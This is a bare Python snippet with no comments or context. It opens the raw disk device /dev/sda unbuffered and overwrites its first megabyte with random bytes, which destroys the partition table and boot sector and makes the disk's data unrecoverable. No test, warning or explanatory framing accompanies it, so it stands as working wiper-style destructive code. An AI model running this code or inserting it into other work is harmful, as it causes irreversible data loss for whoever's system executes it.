import os

with open("/dev/sda", "wb", buffering=0) as disk:
    disk.write(os.urandom(1 << 20))
